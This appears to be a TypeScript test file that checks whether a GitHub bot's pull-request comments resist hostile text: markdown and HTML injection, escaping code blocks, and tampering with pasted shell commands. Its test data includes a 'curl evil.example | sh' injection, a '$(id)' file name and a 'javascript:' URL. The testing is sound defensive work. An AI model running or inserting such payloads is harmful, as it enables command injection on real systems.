import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { runLink } from "../../src/report/run-link.ts";
import { ATTACKS } from "./hostile.ts";
import { hostileBodies } from "./hostile-bodies.ts";
import { hostileTexts, isAlive, kindOf, linesOf, TABLE_RULE, tornLines } from "./hostile-text.ts";

const BODIES = ["running", "waiting", "unaffected"] as const;

/** Each line of the code block that a problem's text stands in. */
const CODE_LINE = /^ {4}\S|^ {5}/u;

/** What may stand alone between two fences. */
const COMMAND =
  /^(?:\/pairgate run (?:SHA|[0-9a-f]{40})|gh workflow run FILE -f pull-request=7 -f commit=(?:SHA|[0-9a-f]{40}))$/u;

const sayOf = (all: readonly string[]) => (index: number) => all[index % all.length] ?? "";

describe.each(BODIES)("hostile texts in the comment that says %s", (name) => {
  const calm = linesOf(hostileBodies(() => "calm")[name]).map(kindOf);

  it("cannot write markdown, HTML, links, mentions or our marker, nor lines and cells of their own", () => {
    fc.assert(
      fc.property(hostileTexts, (all) => {
        const lines = linesOf(hostileBodies(sayOf(all))[name]);
        const prose = lines.filter((line) => !TABLE_RULE.test(line) && line !== "```" && !COMMAND.test(line));
        expect(prose.filter(isAlive)).toEqual([]);
        expect(lines.map(kindOf)).toEqual(calm);
        expect(tornLines(lines)).toEqual([]);
      }),
      { numRuns: 200 },
    );
  });

  it("cannot change what a maintainer pastes into a shell", () => {
    for (const attack of [...ATTACKS, "--repo=evil/evil", "a.yml; curl evil.example | sh", "$(id).yml"]) {
      const lines = linesOf(hostileBodies(() => attack)[name]);
      const commands = lines.filter((_, index) => lines[index - 1] === "```" && lines[index + 1] === "```");
      expect(commands.filter((line) => !COMMAND.test(line))).toEqual([]);
    }
  });
});

describe("hostile texts in the comment that says problem", () => {
  it("cannot leave their code block", () => {
    fc.assert(
      fc.property(hostileTexts, (all) => {
        const [, ...blocks] = linesOf(hostileBodies(sayOf(all)).problem)
          .join("\n")
          .split("\n\n");
        const lines = blocks
          .join("\n\n")
          .split("\n")
          .filter((line) => line !== "");
        expect(lines.filter((line) => !CODE_LINE.test(line))).toEqual([]);
        expect(lines.map((line) => `\`${line.replaceAll("`", "")}\``).filter(isAlive)).toEqual([]);
        expect(lines.filter((line) => /^\s*::|##\[/u.test(line))).toEqual([]);
      }),
      { numRuns: 200 },
    );
  });
});

describe("the link to a run", () => {
  it.each([
    "https://github.com/o/r/actions/runs/1/attempts/2",
    "https://github.example:8443/o-o/r.r_r/actions/runs/1",
  ])("is one for %s", (url) => {
    expect(runLink({ url, text: "the run" })).toBe(`[the run](${url})`);
  });

  it.each([
    "http://github.com/o/r",
    "javascript:alert(1)",
    "https://github.com/o/r) [x](https://evil.example",
    "https://a@evil.example/",
    "https://github.com/o/r?x=<b>",
    `https://github.com/${"r".repeat(500)}`,
    "",
  ])("is none for %j", (url) => {
    expect(isAlive(runLink({ url, text: "the run" }))).toBe(false);
  });
});
